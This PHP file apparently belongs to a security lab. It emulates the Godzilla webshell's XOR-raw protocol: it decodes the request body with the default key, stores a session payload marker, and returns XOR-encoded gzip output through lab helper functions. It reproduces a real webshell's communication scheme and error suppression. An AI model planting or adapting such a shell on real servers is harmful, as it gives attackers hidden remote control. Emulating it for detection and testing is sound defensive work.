<?php require getenv('LAB_SHELL_LIB');
// Emulates Godzilla's PHP_XOR_RAW shell: the whole body is xor(data) with md5(key)[0:16] indexed at
// i+1; the first call stores the payload in the session, later ones carry gzip'd parameters; the
// answer is the raw xor(gzip(result)), no markers.
@session_start();
$key = '3c6e0b8a9c15224a';
$data = file_get_contents('php://input');
if ($data === false || $data === '') exit;
$data = lab_xor($data, $key, 1);
if (!isset($_SESSION['payload'])) {
    if (strpos($data, 'getBasicsInfo') !== false) $_SESSION['payload'] = md5($data);
    exit;
}
echo lab_xor(gzencode(lab_godzilla_call(lab_godzilla_params(@gzdecode($data)))), $key, 1);
